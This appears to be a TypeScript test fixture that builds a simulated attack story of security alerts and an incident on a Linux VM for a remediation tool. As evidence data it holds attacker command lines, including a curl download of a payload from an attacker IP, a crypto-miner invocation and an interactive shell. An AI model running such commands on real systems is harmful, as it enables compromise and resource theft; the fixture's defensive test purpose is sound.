import type { Alert } from '../../src/domain/alert.ts';
import type { StepProgress } from '../../src/domain/remediation/stepProgress.ts';
import { aMemberEntity, anAlert, anEntity, aServiceIncident, hour, minute, noon, virtualMachine } from './alert.ts';

const machine = virtualMachine('shop-web-01');

const attacker = {
  $id: 'we_1',
  type: 'ip',
  address: '203.0.113.77',
  location: { countryName: 'Netherlands', city: 'Amsterdam', asn: 64500, organization: 'Example Hosting B.V.' },
  threatIntelligence: [
    {
      providerName: 'Example Feed',
      threatType: 'Botnet',
      threatName: 'Conficker',
      confidence: 0.75,
      threatDescription: 'Seen scanning for open SSH ports.',
      reportLink: 'https://reports.example/botnet.pdf',
    },
  ],
};

/** An attack on one machine, told by four alerts and the service's incident over them; one member is out of reach. */
export function attackStory(): readonly Alert[] {
  const bruteForce = anAlert({
    called: 'brute',
    displayName: 'Successful SSH brute-force attack',
    description: 'After 1,204 failed attempts, a sign-in over SSH succeeded from an address never seen before.',
    severity: 'High',
    intent: 'InitialAccess, CredentialAccess',
    on: [machine],
    startTime: noon - 4 * hour,
    endTime: noon - 4 * hour + 20 * minute,
    productName: 'Microsoft Defender for Cloud',
    entities: [
      anEntity(attacker),
      anEntity({ $id: 'we_2', type: 'account', name: 'deploy', host: { $ref: 'we_3' }, sid: 'S-1-5-21-1' }),
      anEntity({ $id: 'we_3', type: 'host', hostName: 'shop-web-01', azureID: machine, osFamily: 'Linux' }),
    ],
    remediationSteps: [
      '1. Reset the password of the account %{User Name} and revoke its SSH keys.',
      '2. Allow SSH from known addresses only:\naz network nsg rule update -g shop --nsg-name web -n ssh --source-address-prefixes 198.51.100.0/24',
      '{"displayValue":"Enable just-in-time access","kind":"Link","value":"https://portal.azure.com/#view/jit"}',
      '3. Escalate the alert to the information security team.',
    ],
  });
  const process = anAlert({
    called: 'miner',
    displayName: 'Digital currency mining process started',
    description: 'A process with the name of a known mining tool was started from a temporary folder.',
    severity: 'High',
    intent: 'Execution',
    on: [machine],
    startTime: noon - 3 * hour,
    endTime: noon - 2 * hour,
    alertUri: 'https://portal.azure.com/#blade/alert',
    compromisedEntity: 'shop-web-01',
    techniques: ['T1496', 'T1059'],
    subTechniques: ['T1059.004'],
    vendorName: 'Microsoft',
    productName: 'Microsoft Defender for Cloud',
    productComponentName: 'Servers',
    entities: [
      anEntity({
        $id: 'p_1',
        type: 'host',
        hostName: 'shop-web-01',
        azureID: machine,
        osFamily: 'Linux',
        osVersion: '22.04',
      }),
      anEntity({ $id: 'p_2', type: 'account', name: 'deploy', host: { $ref: 'p_1' }, isDomainJoined: false }),
      anEntity({
        $id: 'p_3',
        type: 'filehash',
        algorithm: 'SHA256',
        value: '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
      }),
      anEntity({ $id: 'p_4', type: 'file', directory: '/tmp/.x', name: 'kworkerds', fileHashes: [{ $ref: 'p_3' }] }),
      anEntity({ $id: 'p_5', type: 'process', processId: '0x1a2b', commandLine: 'bash -i', host: { $ref: 'p_1' } }),
      anEntity({
        $id: 'p_6',
        type: 'process',
        processId: '0x1a9c',
        commandLine: '/tmp/.x/kworkerds -o stratum+tcp://pool.example:3333 -u 44Aff --donate-level 1',
        creationTimeUtc: '2026-03-02T07:00:00Z',
        imageFile: { $ref: 'p_4' },
        parentProcess: { $ref: 'p_5' },
        account: { $ref: 'p_2' },
        host: { $ref: 'p_1' },
      }),
      anEntity({ ...attacker, $id: 'p_7' }),
    ],
    extendedProperties: [
      { name: 'compromised Host', value: 'SHOP-WEB-01' },
      { name: 'suspicious Command Line', value: '/tmp/.x/kworkerds -o stratum+tcp://pool.example:3333' },
      { name: 'killChainIntent', value: 'Execution' },
      {
        name: 'investigation Steps',
        value: '{"displayValue":"View the process tree","evidence":{"depth":3,"parents":["sshd","bash"]}}',
      },
      { name: 'resourceType', value: 'Virtual Machine' },
    ],
    supportingEvidence: {
      type: 'supportingEvidenceList',
      supportingEvidenceList: [
        {
          type: 'tabularEvidences',
          title: 'Processes in the minute before',
          columns: ['Time', 'Process', 'Account', 'Elevated'],
          rows: [
            ['2026-03-02T06:59:12Z', 'curl -o /tmp/.x/k http://203.0.113.77/k', 'deploy', false],
            ['2026-03-02T06:59:40Z', 'chmod +x /tmp/.x/kworkerds', 'deploy', false],
          ],
        },
        {
          type: 'nestedList',
          evidenceElements: [
            {
              type: 'evidenceElement',
              text: { fallback: 'The file was written by a shell that came in over SSH' },
              innerElements: [{ type: 'evidenceElement', text: { fallback: 'Session began at 06:40 UTC' } }],
            },
          ],
        },
      ],
    },
    extendedLinks: [
      { label: 'About cryptocurrency mining alerts', href: 'https://portal.azure.com/#docs' },
      { label: 'Threat blog', href: 'http://blog.example/miners' },
    ],
    remediationSteps: [
      '1. Escalate the alert to the information security team.',
      '2. Stop the process and keep its image for analysis.',
      '3. Isolate the machine from the network:',
      '   • Detach public addresses',
      '   • Deny outbound traffic',
      'az vm run-command invoke -g shop -n shop-web-01 --command-id RunShellScript --scripts "ss -tnp"',
    ],
  });
  const persistence = anAlert({
    called: 'cron',
    displayName: 'Suspicious scheduled task added',
    severity: 'Medium',
    intent: 'Persistence, DefenseEvasion',
    on: [machine],
    startTime: noon - 2.6 * hour,
    endTime: noon - 2.5 * hour,
    status: 'InProgress',
    productName: 'Microsoft Defender for Cloud',
    entities: [anEntity({ $id: 'c_1', type: 'account', name: 'root', host: { $ref: 'nowhere_9' } })],
    remediationSteps: [
      'Remove the task from /etc/cron.d and check for others.',
      'Escalate the alert to the information security team.',
    ],
  });
  const beacon = anAlert({
    called: 'beacon',
    displayName: 'Communication with a suspicious domain',
    severity: 'Low',
    intent: 'CommandAndControl',
    on: [machine],
    startTime: noon - 20 * minute,
    endTime: noon + 80 * minute,
    productName: 'Microsoft Defender for Cloud',
    entities: [
      anEntity({ $id: 'b_1', type: 'ip', address: '198.51.100.9', location: { countryName: 'Iceland', asn: 64511 } }),
      anEntity({ ...attacker, $id: 'b_2' }),
    ],
    remediationSteps: ['Block the domain at the firewall.'],
  });
  const members = [bruteForce, process, persistence, beacon].map(({ systemAlertId }, at) =>
    aMemberEntity([systemAlertId], { $id: `we_${String(20 + at)}` }),
  );
  const lost = aMemberEntity(['2517000000000000000_lost'], {
    displayName: 'Possible outgoing port scan',
    compromisedEntity: 'shop-web-01',
    startTimeUtc: '2026-03-02T07:45:00Z',
  });
  const incident = aServiceIncident('incident', [...members, lost], {
    displayName: 'Security incident detected on a compromised machine',
    description:
      'The incident which started on 2026-03-02 06:00:00 UTC and was detected on 2026-03-02 08:00:00 UTC indicates that an attacker has abused the resource SHOP-WEB-01.',
    alertUri: 'https://portal.azure.com/#blade/incident',
    productName: 'Microsoft Defender for Cloud',
    on: [machine],
    startTime: noon - 4 * hour,
    endTime: noon + 80 * minute,
    remediationSteps: [
      '1. Escalate the alert to the information security team.',
      '2. Review the remediation steps of each one of the alerts',
    ],
  });
  return [bruteForce, process, persistence, beacon, incident];
}

export function aDecision(kind: 'done' | 'skipped', at: number, reason = 'Already blocked by policy'): StepProgress {
  return { state: kind === 'done' ? { kind } : { kind, reason }, by: 'operator@contoso.example', at };
}
